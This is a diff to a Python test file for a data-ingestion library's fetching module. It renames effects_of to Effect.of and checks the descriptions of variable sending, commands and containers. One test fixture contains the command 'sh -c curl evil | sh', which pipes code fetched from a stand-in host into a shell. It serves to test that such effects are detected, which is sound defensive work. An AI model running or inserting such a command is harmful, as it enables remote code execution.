@@ -10,9 +10,9 @@ from hypothesis import strategies as st
 
 from odfchain.errors import FetchError
 from odfchain.ingest.fetching import (
+    Effect,
     EffectKind,
     FetchContext,
-    effects_of,
     host_as_written,
     is_admitted,
 )
@@ -77,15 +77,15 @@ def source(fetch: FetchStep, *prepare: PrepStepPipe) -> SetPollingSource:
 def test_effects() -> None:
     plain = source(FetchStepUrl(url="https://host/x"))
     files = source(FetchStepFilesGlob(path=f"{K}/*.csv"))
-    assert effects_of([plain, files]) == ()
+    assert Effect.of([plain, files]) == ()
     url = FetchStepUrl(
         url="https://host/x", headers=(RequestHeader(name="X", value="${{ env.B || env.A }}"),)
     )
-    sent, piped = effects_of([source(url, PrepStepPipe(command=("sh", "-c", "curl evil | sh")))])
+    sent, piped = Effect.of([source(url, PrepStepPipe(command=("sh", "-c", "curl evil | sh")))])
     assert (sent.kind, sent.host, sent.variables) == (EffectKind.VARIABLE, "host", ("A", "B"))
     assert sent.text == "sends the variables A, B to host"
     assert (piped.kind, piped.text) == (EffectKind.COMMAND, "runs the command: sh -c 'curl evil | sh'")
-    (run,) = effects_of(
+    (run,) = Effect.of(
         [source(FetchStepContainer(image="i", command=("x",), args=(K,), env=(EnvVar(name="T"),)))]
     )
     assert run.text == f"runs the container image: i with x '{K}', and gives it the variables K, T"
